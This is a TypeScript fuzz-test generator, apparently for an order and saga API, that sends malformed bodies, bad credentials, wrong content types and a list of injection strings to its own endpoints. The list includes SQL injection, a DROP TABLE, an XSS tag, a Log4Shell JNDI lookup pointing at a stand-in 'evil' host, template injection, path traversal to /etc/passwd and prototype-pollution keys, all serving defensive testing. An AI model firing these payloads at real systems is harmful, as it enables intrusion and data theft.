import fc from 'fast-check';
import { orderRequestSchema } from '../../shared/order';

/**
 * Generators of malformed and hostile API requests: wrong types, huge and deeply nested bodies, unicode
 * edge cases, injection strings in every field, wrong or missing API keys, wrong content types.
 */
export interface FuzzRequest {
  method: 'POST' | 'GET';
  path: string;
  headers: Record<string, string>;
  body?: string;
}

const INJECTIONS = [
  "' OR 1=1 --",
  '"; DROP TABLE "Order"; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '\u0000',
  '\uD800',
  '\u202E\u0041',
  '🧨'.repeat(100),
  'A'.repeat(70_000),
  '__proto__',
  'constructor',
];

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...INJECTIONS),
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.integer(),
  fc.double(),
  fc.constantFrom(-1, -0, 1e308, Number.MAX_SAFE_INTEGER + 2, 0.5),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.anything({ maxDepth: 2 }), { maxLength: 5 }),
  fc.object({ maxDepth: 2 }),
);

/** Every byte percent-encoded (encodeURIComponent refuses lone surrogates, which we want to send). */
const percentEncode = (value: string) =>
  Array.from(Buffer.from(value, 'utf8'), (byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');

const validOrder = () => ({
  customerId: 'cust-1',
  currency: 'EUR',
  items: [{ sku: 'a', quantity: 1, unitPrice: 100 }],
  paymentToken: 'tok_visa',
  shippingAddress: { name: 'A', line1: 'B', city: 'C', postalCode: '1', country: 'DE' },
});

/** Sets a hostile value at a random path of an otherwise valid order. */
const poisonedOrder = fc
  .tuple(
    fc.constantFrom(
      ['customerId'],
      ['currency'],
      ['items'],
      ['items', 0, 'sku'],
      ['items', 0, 'quantity'],
      ['items', 0, 'unitPrice'],
      ['paymentToken'],
      ['shippingAddress'],
      ['shippingAddress', 'country'],
      ['shippingAddress', 'postalCode'],
      ['__proto__'],
      ['unexpected'],
    ),
    hostileValue,
  )
  .map(([path, value]) => {
    const order: Record<string, unknown> = validOrder();
    let target: Record<string | number, unknown> = order;
    for (const key of path.slice(0, -1)) target = target[key] as Record<string | number, unknown>;
    target[path[path.length - 1] as string] = value;
    return JSON.stringify(order);
  })
  // Some poisonings happen to be valid (a value that fits): those are not hostile, so drop them.
  .filter((body) => !orderRequestSchema.safeParse(JSON.parse(body)).success);

const deeplyNested = fc
  .integer({ min: 100, max: 5000 })
  .map((depth) => `${'['.repeat(depth)}${']'.repeat(depth)}`);
const hugeBody = fc
  .integer({ min: 40_000, max: 2_000_000 })
  .map((size) => JSON.stringify({ ...validOrder(), customerId: 'x'.repeat(size) }));
const manyItems = fc.integer({ min: 51, max: 5000 }).map((count) =>
  JSON.stringify({
    ...validOrder(),
    items: Array.from({ length: count }, () => ({ sku: 'a', quantity: 1, unitPrice: 1 })),
  }),
);
const garbage = fc.oneof(
  fc.string({ maxLength: 300 }),
  fc.constantFrom('', 'null', '[]', '"order"', '{"a":', '{}'),
);

const validKey = (key: string) => ({ authorization: `Bearer ${key}` });
const badAuth = fc.constantFrom<Record<string, string>>(
  {},
  { authorization: 'Bearer wrong-key-0123456789' },
  { authorization: 'Basic dXNlcjpwYXNz' },
  { authorization: 'Bearer ' },
  { authorization: `Bearer ${'k'.repeat(5000)}` },
);

export function fuzzRequests(apiKey: string): fc.Arbitrary<FuzzRequest> {
  const json = { 'content-type': 'application/json' };
  return fc.oneof(
    poisonedOrder.map((body) => ({
      method: 'POST' as const,
      path: '/sagas',
      headers: { ...json, ...validKey(apiKey) },
      body,
    })),
    fc.oneof(deeplyNested, hugeBody, manyItems, garbage).map((body) => ({
      method: 'POST' as const,
      path: '/sagas',
      headers: { ...json, ...validKey(apiKey) },
      body,
    })),
    badAuth.map((headers) => ({
      method: 'POST' as const,
      path: '/sagas',
      headers: { ...json, ...headers },
      body: JSON.stringify(validOrder()),
    })),
    fc
      .constantFrom(
        'text/plain',
        'application/xml',
        'multipart/form-data',
        'application/x-www-form-urlencoded',
      )
      .map((type) => ({
        method: 'POST' as const,
        path: '/sagas',
        headers: { 'content-type': type, ...validKey(apiKey) },
        body: 'customerId=x',
      })),
    fc.constantFrom(...INJECTIONS.slice(0, 10)).map((value) => ({
      method: 'GET' as const,
      path: `/sagas?customerId=${percentEncode(value)}&status=${percentEncode(value)}`,
      headers: validKey(apiKey),
    })),
    fc.constantFrom(...INJECTIONS.slice(0, 10)).map((value) => ({
      method: 'GET' as const,
      path: `/sagas/${percentEncode(value)}`,
      headers: validKey(apiKey),
    })),
    // Refunds: a hostile order id, or a valid one with a body (a refund takes none) or a wrong key.
    fc.constantFrom(...INJECTIONS.slice(0, 10), 'ord_', 'ord_XYZ', 'order-1b4e28ba2fa111d2').map((value) => ({
      method: 'POST' as const,
      path: `/orders/${percentEncode(value)}/refund`,
      headers: { ...json, ...validKey(apiKey) },
      body: '{}',
    })),
    fc
      .tuple(
        fc.uuid(),
        fc.oneof(poisonedOrder, deeplyNested, hugeBody, fc.constantFrom('null', '[]', '{"a":', '"x"')),
      )
      .map(([id, body]) => ({
        method: 'POST' as const,
        path: `/orders/ord_${id}/refund`,
        headers: { ...json, ...validKey(apiKey) },
        body,
      })),
    fc.tuple(fc.uuid(), badAuth).map(([id, headers]) => ({
      method: 'POST' as const,
      path: `/orders/ord_${id}/refund`,
      headers: { ...json, ...headers },
    })),
    fc.constantFrom('cancel', 'resume', 'resolve').chain((action) =>
      fc.constantFrom(...INJECTIONS.slice(0, 10)).map((value) => ({
        method: 'POST' as const,
        path: `/sagas/${percentEncode(value)}/${action}`,
        headers: { ...json, ...validKey(apiKey) },
        body: JSON.stringify({ note: value }),
      })),
    ),
  );
}
